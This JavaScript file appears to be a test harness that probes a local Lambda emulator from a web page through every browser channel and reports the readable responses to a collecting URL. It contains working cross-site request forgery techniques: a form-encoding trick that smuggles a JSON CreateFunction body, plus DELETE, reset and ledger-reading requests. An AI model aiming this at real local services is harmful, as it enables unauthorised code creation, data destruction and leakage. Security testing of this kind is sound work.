// What a web page can send at an address that it found, in every way that a page has. TARGET is the address
// ("" for the page's own), SECRET the emulator's secret or "", CREATION the body of a CreateFunction; REPORT takes
// what was readable. Each attempt is named in its query, so that a server can say which of them arrived.
const functions = "/2015-03-31/functions";
const place = (name, path = functions) =>
  `${TARGET}${path}?attempt=${name}` + (SECRET ? `&X-Amz-Security-Token=${SECRET}` : "");
const readable = {};
const patience = new Promise((done) => setTimeout(done, 8000));
const note = (name, value) => (readable[name] = String(value).slice(0, 500));

async function asked(name, options = {}, path = functions) {
  try {
    const answer = await fetch(place(name, path), options);
    note(name, `${answer.type} ${answer.status} ${await answer.text()}`);
  } catch (error) {
    note(name, "refused");
  }
}

const loaded = (name, element, attribute, path) =>
  new Promise((done) => {
    element.onload = () => done(note(name, "loaded"));
    element.onerror = () => done(note(name, "refused"));
    element[attribute] = place(name, path);
    document.body.append(element);
  });

const framed = (name) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try {
        note(name, "frame " + frame.contentDocument.body.innerText);
      } catch (error) {
        note(name, "refused");
      }
      done();
    };
    frame.src = place(name);
    document.body.append(frame);
  });

function posted(name, type) {
  const frame = Object.assign(document.createElement("iframe"), { name });
  const form = Object.assign(document.createElement("form"), { method: "POST", enctype: type, target: name });
  form.action = place(name);
  const field = document.createElement("input");
  // "name=value" of a form as text becomes JSON when the "=" falls into a member that nobody reads.
  field.name = CREATION.slice(0, -1) + ', "Description": "';
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  return new Promise((done) => {
    frame.onload = () => done(note(name, "sent"));
    form.submit();
  });
}

const streamed = (name) =>
  new Promise((done) => {
    const source = new EventSource(place(name));
    source.onmessage = (event) => note(name, "message " + event.data);
    source.onerror = () => { source.close(); done(readable[name] ??= "refused"); };
    source.onopen = () => note(name, "open");
  });

const socketed = (name) =>
  new Promise((done) => {
    const base = TARGET || location.origin;
    const socket = new WebSocket(base.replace("http", "ws") + place(name).slice(TARGET.length));
    socket.onopen = () => done(note(name, "open"));
    socket.onerror = () => done(note(name, "refused"));
  });

const older = (name) =>
  new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open("POST", place(name));
    request.setRequestHeader("Content-Type", "text/plain");
    request.onload = () => done(note(name, `${request.status} ${request.responseText}`));
    request.onerror = () => done(note(name, "refused"));
    request.send(CREATION);
  });

const text = { method: "POST", body: CREATION, headers: { "Content-Type": "text/plain" } };
const signed = { "X-Amz-Security-Token": SECRET || "guessed", Authorization: AUTHORIZATION };
const script = () => document.createElement("script");
const image = () => document.createElement("img");
const sheet = () => Object.assign(document.createElement("link"), { rel: "stylesheet" });

async function everything() {
  await Promise.allSettled([
    asked("fetch-text", text),
    asked("fetch-no-cors", { ...text, mode: "no-cors" }),
    asked("fetch-credentials", { ...text, mode: "no-cors", credentials: "include" }),
    asked("fetch-no-referrer", { ...text, mode: "no-cors", referrerPolicy: "no-referrer" }),
    asked("fetch-json", { ...text, headers: { "Content-Type": "application/json" } }),
    asked("fetch-signed", { method: "POST", body: CREATION, headers: signed }),
    asked("fetch-put", { method: "PUT", body: CREATION }),
    asked("fetch-delete", { method: "DELETE" }, functions + "/mine"),
    asked("fetch-get"),
    asked("fetch-get-no-cors", { mode: "no-cors" }),
    asked("fetch-head", { method: "HEAD" }),
    asked("fetch-invoke", { ...text, body: "{}" }, functions + "/mine/invocations"),
    asked("fetch-reset", { method: "POST", mode: "no-cors" }, "/_ministack/reset"),
    asked("fetch-ledger", {}, "/_lambdatop/ledger"),
    older("xhr"),
    loaded("img", image(), "src"),
    loaded("img-ledger", image(), "src", "/_lambdatop/ledger"),
    loaded("script", script(), "src"),
    loaded("css", sheet(), "href"),
    framed("iframe"),
    posted("form-text", "text/plain"),
    posted("form-url", "application/x-www-form-urlencoded"),
    posted("form-parts", "multipart/form-data"),
    streamed("event-source"),
    socketed("web-socket"),
    note("beacon", navigator.sendBeacon(place("beacon"), CREATION) && "sent"),
  ].map((attempt) => Promise.race([attempt, patience])));
  await fetch(REPORT, { method: "POST", mode: "no-cors", body: JSON.stringify(readable) });
}
everything();
